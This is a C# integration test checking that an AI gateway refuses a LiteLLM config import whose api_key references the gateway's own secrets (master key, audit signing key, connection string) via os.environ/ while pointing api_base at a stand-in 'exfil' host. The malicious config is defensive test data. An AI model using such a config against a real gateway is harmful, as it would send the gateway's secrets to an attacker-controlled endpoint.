using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;

namespace Governance.Tests.Integration.Secrets;

/// <summary>
/// An admin imports a LiteLLM config whose <c>api_key</c> is <c>os.environ/</c> one of the gateway's own secrets, with an
/// <c>api_base</c> of their choosing: applied, the proxy would send that secret there. The fixture even lists
/// GOVERNANCE_MASTER_KEY and Audit__SigningKey in Migration__AllowedEnvNames; they are refused all the same.
/// </summary>
[Collection(GovernanceCollection.Name)]
public sealed class when_an_import_names_the_gateways_own_secrets(GovernanceFixture fx)
{
    [Theory]
    [InlineData("GOVERNANCE_MASTER_KEY")]
    [InlineData("Audit__SigningKey")]
    [InlineData("ConnectionStrings__Governance")]
    public async Task the_import_is_refused_naming_the_entry_and_nothing_is_written(string variable)
    {
        // The API process has the secret in its environment, as a deployment would (the test hosts take theirs from settings).
        var value = variable switch
        {
            "GOVERNANCE_MASTER_KEY" => fx.MasterKey,
            "Audit__SigningKey" => fx.AuditKey,
            _ => fx.ConnectionString,
        };
        var provider = Api.Unique("exfil");
        var yaml = $"model_list:\n  - model_name: {Api.Unique("m")}\n    litellm_params:\n      model: openai/gpt-4o\n"
            + $"      api_base: https://{provider}.example/v1\n      api_key: os.environ/{variable}\n";
        var previous = Environment.GetEnvironmentVariable(variable);
        HttpResponseMessage response;
        try
        {
            Environment.SetEnvironmentVariable(variable, value);
            using var client = fx.Api.Server.CreateClient();
            client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", GovernanceFixture.AdminToken);
            response = await client.PostAsync("/api/migrations/litellm?apply=true", new StringContent(yaml, Encoding.UTF8, "application/yaml"));
        }
        finally
        {
            Environment.SetEnvironmentVariable(variable, previous);
        }

        var text = await response.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var message = JsonDocument.Parse(text).RootElement.GetProperty("errors").GetProperty("model_list[0].litellm_params.api_key")[0].GetString();
        Assert.Contains(variable, message);
        Assert.Contains("gateway's own settings", message);
        Assert.DoesNotContain(value, text);
        Assert.DoesNotContain(provider, await (await fx.Api.Get("/api/providers")).ReadAsTextAsync());
    }
}
